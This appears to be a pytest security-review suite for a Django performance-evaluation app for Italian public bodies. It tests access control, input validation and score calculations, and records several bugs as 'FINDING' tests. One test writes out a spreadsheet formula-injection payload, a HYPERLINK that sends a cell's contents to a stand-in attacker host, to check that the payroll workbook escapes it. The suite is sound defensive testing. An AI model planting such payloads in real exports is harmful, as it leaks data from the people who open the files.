"""Issue 16 under attack: the evaluation app (SMVP, scores, sheets, payroll, forecasts, baselines) probed for
what is not one's own, odd input and refusals that still change something.

Tests marked FINDING fail on issue16b: each is a real problem, named in the review's report. The others pin the
guarantees that held under attack."""

from __future__ import annotations

import datetime as dt
import io
import json
from decimal import Decimal
from typing import Any

import pytest
from django.contrib.auth.models import Group, Permission, User
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from evaluation.individual import BEHAVIOURS, sheet_score
from evaluation.models import Behaviour, BehaviourScore, EvaluationSheet, MeasurementSystem
from evaluation.services import (
    EDITABLE_FIELDS,
    measurement_system_adopt,
    measurement_system_save,
    sheet_evaluate,
    sheet_submit,
)
from plans.achievement import achievement
from plans.models import Indicator, IndicatorBaseline, IndicatorTarget, Measurement, Objective
from plans.parsing import parse_value
from plans.scoring import ScoringRule
from tests.evaluation.sheets_world import Sheets, build_sheets
from tests.workflow.world import World
from workflow.errors import InvalidInput

pytestmark = pytest.mark.django_db

OTHERS = ("sara", "tommaso", "erica")


@pytest.fixture
def sheets(world: World) -> Sheets:
    return build_sheets(world)


def client_of(user: User) -> Client:
    client = Client(raise_request_exception=False)
    client.force_login(user)
    return client


def admin_client(user: User) -> Client:
    user.is_staff = True
    user.save()
    office = Group.objects.get_or_create(name="Ufficio informatico")[0]
    office.permissions.set(Permission.objects.filter(content_type__app_label="evaluation"))
    user.groups.add(office)
    return client_of(user)


def smvp_url(world: World, year: int = 2026, suffix: str = "") -> str:
    return f"/enti/{world.aurelia.pk}/smvp/{year}/{suffix}"


def smvp_form(system: MeasurementSystem, behaviours: list[tuple[str, str]], **changes: Any) -> dict[str, Any]:
    data: dict[str, Any] = {name: getattr(system, name) for name in EDITABLE_FIELDS}
    data |= {
        "comportamenti-TOTAL_FORMS": str(len(behaviours)),
        "comportamenti-INITIAL_FORMS": "0",
        "comportamenti-MIN_NUM_FORMS": "0",
        "comportamenti-MAX_NUM_FORMS": "30",
        "motivation": "",
    }
    for number, (name, weight) in enumerate(behaviours):
        data |= {
            f"comportamenti-{number}-name": name,
            f"comportamenti-{number}-description": "",
            f"comportamenti-{number}-weight": weight,
        }
    return data | changes


def system_row(world: World) -> dict[str, Any]:
    system = MeasurementSystem.objects.get(organization=world.aurelia, year=2026)
    behaviours = list(system.behaviours.order_by("position").values_list("name", "weight"))
    return {name: getattr(system, name) for name in EDITABLE_FIELDS} | {"behaviours": behaviours}


def submitted(sheets: Sheets, world: World) -> EvaluationSheet:
    sheet_evaluate(
        actor=world.diana,
        sheet=sheets.anna,
        scores={sheets.results.pk: 4, sheets.collaboration.pk: 3},
        comments={sheets.results.pk: "Ottimi risultati", sheets.collaboration.pk: "Collabora"},
        evaluator_comments="Un anno solido.",
    )
    return sheet_submit(actor=world.diana, sheet=sheets.anna)


# ---------------------------------------------------------------------------------------------------------------
# FINDINGS (fail on issue16b)
# ---------------------------------------------------------------------------------------------------------------


def test_the_relazione_is_one_document_for_every_reader_while_the_pages_keep_the_running_figures(
    sheets: Sheets, world: World
) -> None:
    """DECIDED (was a finding): the Relazione sulla Performance is the body's one document, published whole on its
    website (D.Lgs. 150/2009 art. 10, D.Lgs. 33/2013): whoever may read it reads the same document, scores of
    the body and of every area included, and its exports are prepared once for everybody. The pages, the API and
    the dashboard keep the running figures of the body and of other areas to who oversees them."""
    api = client_of(world.sara).get(f"/api/plans/{world.plan.pk}/scores/?year=2026")
    assert api.status_code == 200
    assert api.json()["body"] is None and api.json()["areas"] == []

    url = reverse("reports:opendata", args=[world.plan.pk, 2026, "json"])
    staff, director = (json.loads(client_of(person).get(url).content) for person in (world.sara, world.diana))
    assert staff["scores"] == director["scores"]
    assert staff["scores"]["body"]["score"] is not None


def test_finding_a_superscript_year_on_the_sheet_list_is_a_500(sheets: Sheets, world: World) -> None:
    """FINDING: /valutazioni/?anno=² — str.isdigit() is true for "²" but int("²") raises ValueError: a 500."""
    response = client_of(world.diana).get("/valutazioni/", {"anno": "²"})
    assert response.status_code in (200, 400)


def test_finding_the_payroll_workbook_escapes_no_formula_behind_a_control_character(
    sheets: Sheets, world: World
) -> None:
    """FINDING: render_payroll_xlsx escapes the cell (spreadsheet_safe) *before* stripping XML-illegal control
    characters (xml_safe): a name "\\x01=HYPERLINK(...)" is not escaped (it starts with \\x01), then loses the
    \\x01 and lands in the workbook as a live formula."""
    User.objects.filter(pk=world.bruno.pk).update(
        first_name='\x01=HYPERLINK("http://evil.example/?x="&A2,"Bruno")', last_name=""
    )
    response = client_of(world.otto).get(reverse("evaluation:payroll", args=[world.aurelia.pk, 2026, "xlsx"]))
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert sheet is not None
    names = [row[0] for row in sheet.iter_rows(min_row=2)]
    formulas = [cell.value for cell in names if cell.data_type == "f" or str(cell.value).startswith("=")]
    assert formulas == []


def test_finding_negative_component_weights_are_accepted_in_the_smvp(client: Client, world: World) -> None:
    """FINDING: weight_own_objectives / weight_body / weight_behaviours have no lower bound: the page and the
    service accept -50 for the body's weight as long as the three weights sum above zero; the sheets then say
    "peso 0: non conta" for a weight the SMVP shows as -50."""
    client.force_login(world.diana)
    system = MeasurementSystem(organization=world.aurelia, year=2026)
    response = client.post(smvp_url(world), smvp_form(system, [("Collaborazione", "1")], weight_body="-50"))
    assert response.status_code == 400, "a negative weight was saved"
    with pytest.raises(InvalidInput):
        measurement_system_save(
            actor=world.diana, organization=world.aurelia, year=2027, values={"weight_behaviours": Decimal("-999.99")}
        )


def test_finding_removing_a_behaviour_deletes_the_scores_of_submitted_sheets(sheets: Sheets, world: World) -> None:
    """FINDING: the sheet was submitted (its score frozen); the director then drops a behaviour from the year's
    SMVP: BehaviourScore cascades and the evaluator's score and comment on the submitted sheet are gone, with
    nothing in the refusal path (the save is accepted) and the frozen explanation no longer matching the page."""
    sheet = submitted(sheets, world)
    with pytest.raises(InvalidInput, match="Collaborazione"):
        measurement_system_save(
            actor=world.diana,
            organization=world.aurelia,
            year=2026,
            values={},
            behaviours=[{"name": "Orientamento al risultato", "description": "", "weight": 3}],
        )
    assert BehaviourScore.objects.filter(sheet=sheet).count() == 2, "a submitted sheet lost its behaviour scores"


def test_finding_renaming_a_behaviour_relabels_the_scores_of_submitted_sheets(sheets: Sheets, world: World) -> None:
    """FINDING (same cause): positions keep their rows, so renaming behaviour 1 after a sheet was submitted makes
    the submitted sheet show its «Orientamento al risultato» score under the new name."""
    sheet = submitted(sheets, world)
    with pytest.raises(InvalidInput, match="Orientamento al risultato"):
        measurement_system_save(
            actor=world.diana,
            organization=world.aurelia,
            year=2026,
            values={},
            behaviours=[
                {"name": "Puntualità", "description": "", "weight": 3},
                {"name": "Collaborazione", "description": "", "weight": 1},
            ],
        )
    page = client_of(world.anna).get(reverse("evaluation:sheet", args=[sheet.pk])).content.decode()
    assert "Orientamento al risultato" in page and "Puntualità" not in page


def test_finding_a_behaviour_score_above_a_lowered_scale_still_counts(sheets: Sheets, world: World) -> None:
    """FINDING: scores are checked against the scale only when given. Scale 10, score 9 and 9; the director then
    lowers the scale to 5 (and raises the cap to 120): the sheet submits with behaviours at 9/5 = 180% capped to
    120%, more than the best possible score on the scale (5/5 = 100%)."""
    measurement_system_save(actor=world.diana, organization=world.aurelia, year=2026, values={"behaviour_scale": 10})
    sheet_evaluate(actor=world.diana, sheet=sheets.anna, scores={sheets.results.pk: 9, sheets.collaboration.pk: 9})
    measurement_system_save(
        actor=world.diana,
        organization=world.aurelia,
        year=2026,
        values={"behaviour_scale": 5, "cap": Decimal(120)},
    )
    try:
        sheet_submit(actor=world.diana, sheet=sheets.anna)
    except InvalidInput:
        return  # refused: fine
    behaviours = next(c for c in sheet_score(sheets.anna).components if c.key == BEHAVIOURS)
    assert behaviours.rollup.score is not None and behaviours.rollup.score <= 100, behaviours.rollup.explanation


def test_finding_the_admin_shows_the_evaluated_person_the_draft_scores_and_comments(
    sheets: Sheets, world: World
) -> None:
    """FINDING: the sheet page hides the evaluator's scores and comments from the evaluated person until the sheet
    is submitted; the admin (EvaluationSheetAdmin, BehaviourScoreAdmin, both scoped by visible_sheets) shows
    them to an area head with admin access while the sheet is still a draft."""
    sheet_evaluate(
        actor=world.diana,
        sheet=sheets.anna,
        scores={sheets.results.pk: 2},
        comments={sheets.results.pk: "Bozza riservata del valutatore"},
        evaluator_comments="Commento riservato in bozza",
    )
    page = client_of(world.anna).get(reverse("evaluation:sheet", args=[sheets.anna.pk])).content.decode()
    assert "Commento riservato in bozza" not in page  # the page's guarantee holds

    anna = admin_client(world.anna)
    listing = anna.get(reverse("admin:evaluation_behaviourscore_changelist"))
    assert listing.status_code == 200
    assert [row.pk for row in listing.context["cl"].result_list] == [], "draft behaviour scores listed"
    change = anna.get(reverse("admin:evaluation_evaluationsheet_change", args=[sheets.anna.pk]))
    assert "Commento riservato in bozza" not in change.content.decode()


def test_finding_the_forecast_ignores_the_baseline_of_a_relative_target(world: World) -> None:
    """FINDING (correctness): plan_scores passes the indicator's baseline to the engine, the forecast
    (evaluation.forecast._indicator) does not: a target "Aumento del 10% rispetto alla baseline" met by far
    (baseline 200, value 250) is "manca la baseline: non misurabile" in the forecast, so such objectives are
    never forecast (nor warned about), while their score is 100%."""
    from evaluation.forecast import forecast_objectives
    from evaluation.scores import plan_scores

    objective = Objective.objects.create(plan=world.plan, code="REL-1", title="Obiettivo relativo")
    indicator = Indicator.objects.create(
        objective=objective, position=1, name="Utenti", direction=Indicator.Direction.INCREASE
    )
    IndicatorBaseline.objects.create(
        indicator=indicator, year=2025, **IndicatorBaseline.spec_values(parse_value("200"))
    )
    IndicatorTarget.objects.create(
        indicator=indicator,
        year=2026,
        **IndicatorTarget.spec_values(parse_value("Aumento del 10% rispetto alla baseline")),
    )
    Measurement.objects.create(
        indicator=indicator, year=2026, measured_on=dt.date(2026, 5, 1), **Measurement.spec_values(parse_value("250"))
    )
    assert plan_scores(world.plan, 2026).objectives[objective.pk].rollup.score == Decimal(100)

    (result,) = forecast_objectives(
        Objective.objects.filter(pk=objective.pk), dt.date(2026, 5, 15), organization_id=world.aurelia.pk
    )
    assert result.expected_score is not None, result.explanation


def test_a_po_sees_the_bodys_score_on_her_own_sheet_only(world: World) -> None:
    """DECIDED (was a finding): the body's result is a component of a P.O.'s own evaluation, and the person
    evaluated is entitled to the elements of her evaluation: her sheet shows it, with its explanation. The
    plan's pages and the API still keep the body's running score to the director and the OIV."""
    sheets = build_sheets(world)
    sheet = EvaluationSheet.objects.create(
        organization=world.aurelia,
        year=2026,
        person=world.sara,
        evaluator=world.diana,
        role=EvaluationSheet.Role.POSIZIONE_ORGANIZZATIVA,
    )
    assert sheets.system.weight_body > 0
    page = client_of(world.sara).get(reverse("evaluation:sheet", args=[sheet.pk]))
    assert page.status_code == 200
    assert "73,8%" in page.content.decode()
    api = client_of(world.sara).get(f"/api/plans/{world.plan.pk}/scores/?year=2026")
    assert api.json()["body"] is None


@pytest.mark.parametrize("weight", ["1e309", "99999999999999999999999999999999"])
def test_finding_the_smvp_service_crashes_on_a_huge_behaviour_weight(world: World, weight: str) -> None:
    """FINDING: evaluation.services.system._behaviours quantizes a finite weight before raising the problems it
    found: "1e309" (finite for Decimal) raises decimal.InvalidOperation instead of InvalidInput. The page's form
    (max_value 999) stops it first; any other caller of the service (command, API, future import) gets a 500."""
    with pytest.raises(InvalidInput):
        measurement_system_save(
            actor=world.diana,
            organization=world.aurelia,
            year=2026,
            values={},
            behaviours=[{"name": "Collaborazione", "description": "", "weight": weight}],
        )
    assert not MeasurementSystem.objects.exists() and not Behaviour.objects.exists()


def test_finding_a_huge_relative_target_from_an_import_makes_every_scores_page_a_500(
    db: None, frozen_today: dt.date, tmp_path: Any
) -> None:
    """FINDING: every number fits its column (14 integer digits), so the import accepts baseline
    "99.999.999.999.999" and target "Aumento del 99.999.999.999.999% rispetto alla baseline"; the resolved target
    (~1e26) overflows plans.scoring._decimal_text's quantize (28 digits of context): decimal.InvalidOperation in
    plan_scores, so the plan's page, its scores page, the objective page, the API's scores and the open data /
    Relazione of the plan all answer 500, for everybody, because of one indicator."""
    import copy

    from evaluation.scores import plan_scores
    from plans.importing.service import import_plan_file
    from plans.importing.template import EXAMPLE

    document = copy.deepcopy(EXAMPLE)
    indicator = document["objectives"][0]["indicators"][1]
    indicator["baseline"] = {"value": "99.999.999.999.999", "year": 2025}
    indicator["targets"] = [{"year": 2026, "value": "Aumento del 99.999.999.999.999% rispetto alla baseline"}]
    indicator["measurements"] = [{"year": 2026, "value": "1", "date": "2026-04-30"}]
    path = tmp_path / "piano.json"
    path.write_text(json.dumps(document), encoding="utf-8")
    plan = import_plan_file(path).plan  # accepted: nothing is too large for its column
    from plans.models import OrganizationRole

    director = User.objects.create_user("direttrice", "d@example.org", "x")
    OrganizationRole.objects.create(organization=plan.organization, user=director, role=OrganizationRole.Role.DIRECTOR)
    client = client_of(director)
    objective = plan.objectives.get()
    urls = (
        f"/piani/{plan.pk}/punteggi/?anno=2026",
        f"/api/plans/{plan.pk}/scores/?year=2026",
        f"/obiettivi/{objective.pk}/",
        f"/piani/{plan.pk}/",
        "/",
        reverse("reports:opendata", args=[plan.pk, 2026, "json"]),
    )
    statuses = {url: client.get(url).status_code for url in urls}
    assert statuses == dict.fromkeys(urls, 200)
    plan_scores(plan, 2026)


def test_finding_a_negative_objective_weight_puts_the_body_and_area_scores_above_the_cap(
    sheets: Sheets, world: World, tmp_path: Any
) -> None:
    """FINDING: the import refuses a negative *indicator* weight (validation._indicator_weight_problems) but not a
    negative *objective* weight (_amount_problems only parses it). rollup clamps each part to [0, cap] and then
    takes Σ w×s / Σ w, which with a negative weight leaves [0, cap]: TEC-1 at weight -1,9 makes the body
    (175 + 80 − 76) / 1,1 = 162,7% under a cap of 100% (and the technical area, Σ w = −0,9, "non misurabile")."""
    import copy

    from evaluation.scores import plan_scores
    from plans.importing.errors import PlanImportError
    from plans.importing.service import import_plan_file
    from plans.importing.template import EXAMPLE

    document = copy.deepcopy(EXAMPLE)
    document["objectives"][0]["weight"] = "-1,9"
    path = tmp_path / "piano.json"
    path.write_text(json.dumps(document), encoding="utf-8")
    with pytest.raises(PlanImportError, match=r"\.weight\): il peso -1,9 è negativo"):
        import_plan_file(path)

    # Written past the checks (a shell, the database): a negative weight is left out of the means.

    Objective.objects.filter(pk=sheets.technical_objective.pk).update(weight=Decimal("-1.9"))
    scores = plan_scores(world.plan, 2026)
    cap = scores.system.cap
    found = {"body": scores.body.score} | {area.name: area.rollup.score for area in scores.areas.values()}
    outside = {name: score for name, score in found.items() if score is not None and not 0 <= score <= cap}
    assert outside == {}, scores.body.explanation


def test_finding_a_negative_objective_weight_breaks_the_daily_score_refresh(sheets: Sheets, world: World) -> None:
    """FINDING (same cause): weights 99.999,99 and −99.999,98 (both fit Objective.weight) give a body score of
    millions of percent, which ScoreSnapshot.body_score (max_digits 7) cannot hold: the daily refresh fails."""
    from evaluation.models import ScoreSnapshot
    from evaluation.refresh import refresh_scores

    Objective.objects.filter(pk=world.objective.pk).update(weight=Decimal("99999.99"))
    Objective.objects.filter(pk=sheets.technical_objective.pk).update(weight=Decimal("-99999.98"))
    refresh_scores(dt.date(2026, 5, 15))
    snapshot = ScoreSnapshot.objects.get(plan=world.plan, year=2026)
    assert snapshot.body_score is None or 0 <= snapshot.body_score <= 100


def test_finding_one_bodys_bad_plan_stops_the_daily_score_refresh_of_every_body(world: World, tmp_path: Any) -> None:
    """FINDING (cross-tenant availability): evaluation.refresh.recompute has no per-plan guard (unlike
    forecasts_store_all, which logs an organization's failure and goes on): the InvalidOperation of the huge
    relative target above, in another body's plan, propagates out of refresh_scores, so Aurelia's plan (later
    in pk order) gets no snapshot and the watermarks never move: every day's run fails again, for everybody."""
    import copy

    from evaluation.models import ScoreSnapshot
    from evaluation.refresh import refresh_scores
    from plans.importing.service import import_plan_file
    from plans.importing.template import EXAMPLE
    from plans.models import Plan

    document = copy.deepcopy(EXAMPLE)
    indicator = document["objectives"][0]["indicators"][1]
    indicator["baseline"] = {"value": "99.999.999.999.999", "year": 2025}
    indicator["targets"] = [{"year": 2026, "value": "Aumento del 99.999.999.999.999% rispetto alla baseline"}]
    indicator["measurements"] = [{"year": 2026, "value": "1", "date": "2026-04-30"}]
    path = tmp_path / "piano.json"
    path.write_text(json.dumps(document), encoding="utf-8")
    import_plan_file(path)
    later = Plan.objects.create(
        organization=world.aurelia,
        code="PEG-2026-B",
        kind=Plan.Kind.PEG,
        title="PEG bis",
        year_start=2026,
        year_end=2026,
    )
    refresh_scores(dt.date(2026, 5, 15))
    assert ScoreSnapshot.objects.filter(plan=later, year=2026).exists()


@pytest.mark.parametrize("day", ["0001-01-01", "9999-12-31"])
def test_finding_the_smvp_adoption_date_has_no_bounds(client: Client, world: World, day: str) -> None:
    """FINDING (low): plans.limits says a date outside its window "is a typing mistake or an attack, refused with
    the bounds in the message"; the SMVP's adoption (AdoptForm, measurement_system_adopt) takes any date, and an
    adoption dated 9999 or year 1 cannot be corrected afterwards (an adopted system is never adopted again)."""
    client.force_login(world.diana)
    response = client.post(smvp_url(world, suffix="adozione/"), {"adopted_on": day, "act": "Delibera"})
    assert response.status_code == 400
    assert not MeasurementSystem.objects.filter(adopted_on__isnull=False).exists()


# ---------------------------------------------------------------------------------------------------------------
# Guarantees that held
# ---------------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("suffix", ["", "adozione/", "versioni/"])
def test_another_bodys_director_neither_reads_nor_changes_the_smvp(world: World, suffix: str) -> None:
    measurement_system_save(actor=world.diana, organization=world.aurelia, year=2026, values={})
    before = system_row(world)
    erica = client_of(world.erica)
    # adozione/ takes POST only: a GET answers 405 before anything is read, for any organization
    assert erica.get(smvp_url(world, suffix=suffix)).status_code == (405 if suffix == "adozione/" else 404)
    system = MeasurementSystem(organization=world.aurelia, year=2026)
    post = smvp_form(system, [("Mi premio", "1")], cap="1000", reached="1000", adopted_on="2026-01-01")
    assert erica.post(smvp_url(world, suffix=suffix), post).status_code in (404, 405)
    assert system_row(world) == before
    assert not MeasurementSystem.objects.filter(adopted_on__isnull=False).exists()


def test_staff_and_area_heads_cannot_change_or_adopt_the_smvp(world: World) -> None:
    measurement_system_save(actor=world.diana, organization=world.aurelia, year=2026, values={})
    before = system_row(world)
    system = MeasurementSystem(organization=world.aurelia, year=2026)
    for name in ("anna", "sara", "otto"):
        client = client_of(world.users[name])
        assert client.post(smvp_url(world), smvp_form(system, [("X", "1")], cap="500")).status_code == 403
        assert client.post(smvp_url(world, suffix="adozione/"), {"adopted_on": "2026-01-01"}).status_code == 403
    assert system_row(world) == before


def test_after_adoption_a_change_of_behaviours_alone_still_needs_a_motivation(client: Client, world: World) -> None:
    measurement_system_save(
        actor=world.diana,
        organization=world.aurelia,
        year=2026,
        values={},
        behaviours=[{"name": "Collaborazione", "description": "", "weight": 1}],
    )
    measurement_system_adopt(actor=world.diana, organization=world.aurelia, year=2026, adopted_on=dt.date(2026, 1, 20))
    before = system_row(world)
    client.force_login(world.diana)
    system = MeasurementSystem.objects.get(organization=world.aurelia, year=2026)
    for behaviours in ([("Collaborazione", "5")], [("Puntualità", "1")], [], [("Collaborazione", "1"), ("Nuovo", "1")]):
        response = client.post(smvp_url(world), smvp_form(system, behaviours, motivation="   "))
        assert response.status_code == 400, behaviours
    with pytest.raises(InvalidInput):
        measurement_system_save(actor=world.diana, organization=world.aurelia, year=2026, values={}, behaviours=[])
    assert system_row(world) == before


@pytest.mark.parametrize(
    "changes",
    [
        {"cap": "99999999999"},
        {"weight_body": "1e309"},
        {"reached": "NaN"},
        {"partial": "Infinity"},
        {"floor": "-1"},
        {"cap": "1000.001"},
        {"behaviour_scale": "99999999999999999999"},
        {"reached_label": "rag\x00giunto"},
        {"reached_symbol": "●●●●●"},
        {"comportamenti-0-weight": "1e309"},
        {"comportamenti-0-weight": "-3"},
        {"comportamenti-0-weight": "99999999999999999999999"},
        {"comportamenti-0-name": "Nome\x00nullo"},
        {"comportamenti-TOTAL_FORMS": "100000"},
        {"partial_credit": "evil"},
    ],
)
def test_odd_smvp_input_answers_400_and_changes_nothing(client: Client, world: World, changes: dict[str, str]) -> None:
    measurement_system_save(actor=world.diana, organization=world.aurelia, year=2026, values={})
    before = system_row(world)
    client.force_login(world.diana)
    client.raise_request_exception = False
    system = MeasurementSystem.objects.get(organization=world.aurelia, year=2026)
    response = client.post(smvp_url(world), smvp_form(system, [("Collaborazione", "1")], **changes))
    assert response.status_code == 400
    assert system_row(world) == before


@pytest.mark.parametrize("weight", ["NaN", "-Infinity", "0", "-1", "1000", "abc", "1e3"])
def test_the_service_refuses_odd_behaviour_weights_and_writes_nothing(world: World, weight: str) -> None:
    with pytest.raises(InvalidInput):
        measurement_system_save(
            actor=world.diana,
            organization=world.aurelia,
            year=2026,
            values={},
            behaviours=[{"name": "Collaborazione", "description": "", "weight": weight}],
        )
    assert not MeasurementSystem.objects.exists() and not Behaviour.objects.exists()


@pytest.mark.parametrize(
    "url",
    [
        "/enti/99999999999999999999/smvp/2026/",
        "/enti/{org}/smvp/99999999999999999999/",
        "/enti/{org}/smvp/0/",
        "/enti/{org}/smvp/2026/versioni/?pagina=%00",
        "/piani/{plan}/punteggi/?anno=²",
        "/piani/{plan}/punteggi/?anno=99999999999999999999",
        "/piani/{plan}/punteggi/?anno=-2026",
        "/piani/{plan}/punteggi/?anno=2026&pagina=99999999999999999999",
        "/piani/99999999999999999999/punteggi/",
        "/api/plans/{plan}/scores/?year=²",
        "/api/plans/{plan}/scores/?year=%00",
        "/api/plans/{plan}/scores/?year=1e3",
        "/api/plans/99999999999999999999/scores/",
        "/?piano=99999999999999999999&area=-1",
        "/?previsioni=99999999999999999999",
        "/valutazioni/?anno=99999999999999999999&pagina=%C2%B2",
        "/valutazioni/ente/{org}/-1/punteggi.csv",
    ],
)
def test_odd_addresses_of_the_scores_answer_without_a_500(world: World, url: str) -> None:
    address = url.format(org=world.aurelia.pk, plan=world.plan.pk)
    for name in ("diana", "sara"):
        assert client_of(world.users[name]).get(address).status_code in (200, 400, 404), (name, address)


def test_another_body_gets_404_on_every_score_export_and_api(sheets: Sheets, world: World) -> None:
    submitted(sheets, world)
    erica = client_of(world.erica)
    for url in (
        f"/api/plans/{world.plan.pk}/scores/",
        f"/piani/{world.plan.pk}/punteggi/",
        reverse("evaluation:payroll", args=[world.aurelia.pk, 2026, "csv"]),
        reverse("evaluation:payroll", args=[world.aurelia.pk, 2026, "xlsx"]),
        reverse("evaluation:sheet", args=[sheets.anna.pk]),
        reverse("reports:opendata", args=[world.plan.pk, 2026, "json"]),
    ):
        assert erica.get(url).status_code == 404, url
    erica_admin = admin_client(world.erica)
    for name in ("evaluationsheet", "behaviourscore", "measurementsystem", "scoresnapshot"):
        listing = erica_admin.get(reverse(f"admin:evaluation_{name}_changelist"))
        assert listing.status_code in (200, 403)
        if listing.status_code == 200:
            assert list(listing.context["cl"].result_list) == [], name
    assert erica_admin.get(reverse("admin:evaluation_evaluationsheet_change", args=[sheets.anna.pk])).status_code == 404


def test_staff_see_neither_the_body_nor_an_area_nor_another_areas_objective_in_the_api_or_pages(
    sheets: Sheets, world: World
) -> None:
    for name in ("sara", "tommaso"):
        client = client_of(world.users[name])
        data = client.get(f"/api/plans/{world.plan.pk}/scores/?year=2026").json()
        assert data["body"] is None and data["areas"] == []
        codes = {objective["code"] for objective in data["objectives"]}
        assert not codes & ({"SOC-1"} if name == "tommaso" else {"TEC-1"})
        page = client.get(f"/piani/{world.plan.pk}/punteggi/?anno=2026").content.decode()
        assert "73,8" not in page and "60,0%" not in page  # the body's and the technical area's scores
    anna = client_of(world.anna).get(f"/api/plans/{world.plan.pk}/scores/?year=2026").json()
    assert anna["body"] is None and [area["area"] for area in anna["areas"]] == [world.social.pk]


def test_the_sheet_services_refuse_what_is_not_the_actors(sheets: Sheets, world: World) -> None:
    from workflow.errors import NotAllowed, NotVisible

    with pytest.raises(NotVisible):
        sheet_evaluate(actor=world.erica, sheet=sheets.anna, scores={sheets.results.pk: 5})
    with pytest.raises(NotAllowed):
        sheet_evaluate(actor=world.anna, sheet=sheets.anna, scores={sheets.results.pk: 5})  # her own
    with pytest.raises(NotAllowed):
        sheet_evaluate(actor=world.diana, sheet=sheets.diana, scores={sheets.results.pk: 5})  # the OIV's to give
    with pytest.raises(InvalidInput):
        sheet_evaluate(actor=world.diana, sheet=sheets.anna, scores={sheets.results.pk: 0})
    with pytest.raises(InvalidInput):
        sheet_evaluate(actor=world.diana, sheet=sheets.anna, scores={sheets.results.pk: True})
    other = MeasurementSystem.objects.create(organization=world.borgo, year=2026)
    foreign = Behaviour.objects.create(system=other, position=1, name="Di Borgo")
    with pytest.raises(InvalidInput):
        sheet_evaluate(actor=world.diana, sheet=sheets.anna, scores={foreign.pk: 3})
    assert not BehaviourScore.objects.exists()


def test_a_post_of_scores_for_a_behaviour_of_another_body_changes_nothing(sheets: Sheets, world: World) -> None:
    other = MeasurementSystem.objects.create(organization=world.borgo, year=2026)
    foreign = Behaviour.objects.create(system=other, position=1, name="Di Borgo")
    response = client_of(world.diana).post(
        reverse("evaluation:evaluate", args=[sheets.anna.pk]),
        {f"score_{foreign.pk}": "5", f"score_{sheets.results.pk}": "99", "evaluator_comments": "x\x00"},
    )
    assert response.status_code == 400
    assert not BehaviourScore.objects.exists()
    assert EvaluationSheet.objects.get(pk=sheets.anna.pk).evaluator_comments == ""


@pytest.mark.parametrize(
    ("baseline", "target", "actual", "direction"),
    [
        ("200", "riduzione del 150% rispetto alla baseline", "5", "decrease"),
        ("200", "riduzione del 100% rispetto alla baseline", "0", "decrease"),
        ("200", "riduzione del 100% rispetto alla baseline", "10", "decrease"),
        ("0,000001", "aumento del 99.999.999.999.999% rispetto alla baseline", "99.999.999.999.999", "increase"),
        ("150/1600", "aumento del 30% rispetto alla baseline", "1600/1", "increase"),
        ("150/0", "aumento del 30% rispetto alla baseline", "5", "increase"),
        ("-200", "riduzione del 10% rispetto alla baseline", "-300", "decrease"),
        ("200", "pari alla baseline", "-200", "target"),
        ("200", "mantenimento della baseline", "99.999.999.999.999", "decrease"),
        ("200", "aumento del 1e309% rispetto alla baseline", "250", "increase"),
        ("1e309", "aumento del 10% rispetto alla baseline", "250", "increase"),
    ],
)
@pytest.mark.parametrize("cap", [Decimal(100), Decimal(120), Decimal(1000)])
def test_a_relative_target_never_scores_outside_zero_and_the_cap(
    baseline: str, target: str, actual: str, direction: str, cap: Decimal
) -> None:
    rule = ScoringRule(cap=cap, reached=Decimal(100), partial=Decimal(80), floor=Decimal(0))
    result = achievement(
        IndicatorTarget(**IndicatorTarget.spec_values(parse_value(target))),
        Measurement(**Measurement.spec_values(parse_value(actual))),
        direction,
        rule,
        baseline=IndicatorBaseline(**IndicatorBaseline.spec_values(parse_value(baseline))),
    )
    assert result.score is None or Decimal(0) <= result.score <= cap, result.explanation


def test_the_forecast_warnings_go_to_the_director_and_the_heads_of_the_objectives_areas_only(
    sheets: Sheets, world: World
) -> None:
    from evaluation.models import ObjectiveForecast
    from notifications.forecasts import plan_forecast_warnings
    from notifications.models import Message

    today = dt.date(2026, 5, 15)
    for objective in (world.objective, sheets.technical_objective):
        ObjectiveForecast.objects.create(
            objective=objective, date=today, band=ObjectiveForecast.Band.LIKELY_MISSED, explanation="x"
        )
    plan_forecast_warnings(today)
    warned = {
        message.recipient.username: set(
            Objective.objects.filter(pk__in=message.context["objectives"]).values_list("code", flat=True)
        )
        for message in Message.objects.filter(kind=Message.Kind.FORECAST)
    }
    assert warned == {"diana": {"SOC-1", "TEC-1"}, "anna": {"SOC-1"}, "bruno": {"TEC-1"}}


@pytest.mark.parametrize(
    "baseline",
    [
        {"value": "999.999.999.999.999.999"},
        {"value": "aumento del 999.999.999.999.999.999% rispetto alla baseline"},
        {"value": "1", "year": 1},
        {"value": "1", "year": 99999},
        {"value": "1", "year": 2027},
        {"value": "1", "source": "x" * 10, "extra": 1},
    ],
)
def test_the_import_refuses_an_overflowing_or_odd_baseline_and_writes_nothing(
    db: None, frozen_today: dt.date, tmp_path: Any, baseline: dict[str, Any]
) -> None:
    import copy

    from plans.importing.errors import PlanImportError
    from plans.importing.service import import_plan_file
    from plans.importing.template import EXAMPLE
    from plans.models import Plan

    document = copy.deepcopy(EXAMPLE)
    document["objectives"][0]["indicators"][0]["baseline"] = baseline
    path = tmp_path / "piano.json"
    path.write_text(json.dumps(document), encoding="utf-8")
    with pytest.raises(PlanImportError):
        import_plan_file(path)
    assert not Plan.objects.exists() and not IndicatorBaseline.objects.exists()
